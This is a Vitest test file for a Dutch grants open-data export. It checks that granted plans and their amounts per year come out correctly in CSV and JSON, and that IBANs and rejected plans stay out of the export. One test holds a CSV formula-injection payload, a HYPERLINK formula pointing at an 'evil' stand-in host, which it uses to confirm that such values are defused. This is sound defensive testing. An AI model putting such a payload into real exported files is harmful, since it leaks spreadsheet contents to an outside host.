import { parse } from "csv-parse/sync";
import { afterAll, expect, it } from "vitest";
import { disconnectPrisma, prisma } from "../../db/client.server.ts";
import type { DecisionOutcome, PlanStatus } from "../../generated/prisma/enums.ts";
import { createScenario } from "../../test/scenario.server.ts";
import { now } from "../clock.ts";
import { regulationTermsForPlan } from "../decision/terms.server.ts";
import { grantTermsJson } from "../decision/terms.ts";
import { centsToDecimalString } from "../money.ts";
import { grantedCsv, grantedJson, grantedTable } from "./granted.server.ts";

afterAll(async () => {
  await disconnectPrisma();
});

let n = 0;
async function decidedPlan(
  s: Awaited<ReturnType<typeof createScenario>>,
  status: PlanStatus,
  outcome: DecisionOutcome,
  years: [number, bigint][],
) {
  n += 1;
  const plan = await prisma.plan.create({
    data: {
      reference: `OD-${s.tag}-${n}`,
      organisationId: s.orgA.id,
      regulationId: s.regulation.id,
      windowId: s.window.id,
      status,
      title: `Open-dataplan ${n}`,
      sectorCodes: ["5", "3"],
      periodStart: new Date(Date.UTC(s.year + 1, 0, 1)),
      periodEnd: new Date(Date.UTC(s.year + 2, 11, 31)),
      createdById: s.applicantA.userId,
    },
  });
  await prisma.decision.create({
    data: {
      planId: plan.id,
      outcome,
      reason: "test",
      decidedById: s.decisionMaker.userId,
      decidedAt: now(),
      terms: grantTermsJson(await regulationTermsForPlan(prisma, plan.id)),
      years: { create: years.map(([year, grantedCents]) => ({ year, grantedCents })) },
    },
  });
  return plan;
}

/** Euros with a decimal comma ("1234,56") back to cents, exactly. */
function commaToCents(text: string): bigint {
  const m = /^(\d+),(\d{2})$/.exec(text);
  if (!m) throw new Error(`Not an amount: ${text}`);
  return BigInt(m[1] ?? "") * 100n + BigInt(m[2] ?? "");
}

it("publishes every granted plan with its decision's amounts per year; CSV and JSON read back equal to the database", async () => {
  const s = await createScenario();
  const y1 = s.year + 1;
  const y2 = s.year + 2;
  const granted = await decidedPlan(s, "GRANTED", "GRANTED", [
    [y1, 30_000_000n],
    [y2, 12_345_678_910n],
  ]);
  const partial = await decidedPlan(s, "IN_EXECUTION", "PARTIALLY_GRANTED", [[y1, 1n]]);
  const rejected = await decidedPlan(s, "REJECTED", "REJECTED", []);
  // A contact person, e-mail or IBAN must never reach the file.
  await prisma.organisation.update({ where: { id: s.orgA.id }, data: { iban: "NL02ABNA0123456789" } });

  const table = await grantedTable(prisma);
  const csv = grantedCsv(table);
  expect(csv.startsWith("\uFEFF")).toBe(true);
  expect(csv).not.toContain("NL02ABNA0123456789");
  expect(csv).not.toContain(rejected.reference);

  const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, delimiter: ";" });
  const json = grantedJson(table);
  expect(JSON.stringify(json)).not.toContain("NL02ABNA");

  // The database's own view of the granted plans, independently of the module's query.
  const decisions = await prisma.decision.findMany({
    where: {
      outcome: { in: ["GRANTED", "PARTIALLY_GRANTED"] },
      plan: {
        status: { in: ["GRANTED", "PARTIALLY_GRANTED", "IN_EXECUTION", "SETTLEMENT_REQUESTED", "SETTLED"] },
      },
    },
    select: { plan: { select: { reference: true } }, years: true },
  });
  expect(rows.length).toBe(decisions.length + 1); // + the totals row
  expect(json.plans.length).toBe(decisions.length);

  const grandTotal = decisions.flatMap((d) => d.years).reduce((sum, y) => sum + y.grantedCents, 0n);
  const totalsRow = rows.at(-1) as Record<string, string>;
  expect(totalsRow.Kenmerk).toBe("Totaal");
  expect(commaToCents(totalsRow["Toegekend totaal (EUR)"] ?? "")).toBe(grandTotal);
  expect(json.totals.grantedTotal).toBe(centsToDecimalString(grandTotal));

  for (const d of decisions) {
    const row = rows.find((r) => r.Kenmerk === d.plan.reference);
    const item = json.plans.find((p) => p.reference === d.plan.reference);
    expect(row, d.plan.reference).toBeDefined();
    let total = 0n;
    for (const y of d.years) {
      expect(commaToCents(row?.[`Toegekend ${y.year} (EUR)`] ?? "")).toBe(y.grantedCents);
      expect(item?.grantedPerYear[String(y.year)]).toBe(centsToDecimalString(y.grantedCents));
      total += y.grantedCents;
    }
    expect(commaToCents(row?.["Toegekend totaal (EUR)"] ?? "")).toBe(total);
    expect(item?.grantedTotal).toBe(centsToDecimalString(total));
  }

  const mine = rows.find((r) => r.Kenmerk === granted.reference);
  expect(mine).toMatchObject({
    "Naam sectorplan": "Open-dataplan 1",
    // Labels from the regulation's list, in the plan's order.
    Sector: "Bouwnijverheid en bouwinstallatie, Metalektro en metaalnijverheid",
    Hoofdaanvrager: s.orgA.name,
    Begindatum: `${y1}-01-01`,
    Einddatum: `${y2}-12-31`,
    Status: "toegekend",
    [`Toegekend ${y2} (EUR)`]: "123456789,10",
  });
  expect(rows.find((r) => r.Kenmerk === partial.reference)?.Status).toBe("in uitvoering");
  expect(json.plans.find((p) => p.reference === granted.reference)?.grantedPerYear).toEqual({
    [String(y1)]: "300000.00",
    [String(y2)]: "123456789.10",
  });
  expect(json.currency).toBe("EUR");
});

it("writes cents as exact decimals", () => {
  expect(centsToDecimalString(0n)).toBe("0.00");
  expect(centsToDecimalString(5n, ",")).toBe("0,05");
  expect(centsToDecimalString(12_345_678_901_234_567n)).toBe("123456789012345.67");
});

it("defuses a formula in the plan title and the organisation name; amounts stay numbers", () => {
  const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
  const csv = grantedCsv({
    generatedAt: new Date(0),
    years: [2025],
    plans: [
      {
        reference: "SP-2025-0001",
        title: hostile,
        regulation: "Sectorplannen",
        sectors: ["Bouw"],
        leadApplicant: "+31 Opleidingen",
        periodStart: "2025-01-01",
        periodEnd: "2025-12-31",
        status: "SETTLED",
        years: new Map([[2025, -10_000n]]),
        totalCents: -10_000n,
      },
    ],
    totals: { years: new Map([[2025, -10_000n]]), totalCents: -10_000n },
  });
  const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, delimiter: ";" });
  expect(rows[0]).toMatchObject({
    "Naam sectorplan": `'${hostile}`,
    Hoofdaanvrager: "'+31 Opleidingen",
    "Toegekend 2025 (EUR)": "-100,00",
    "Toegekend totaal (EUR)": "-100,00",
  });
  expect(rows[1]?.["Toegekend totaal (EUR)"]).toBe("-100,00");
});
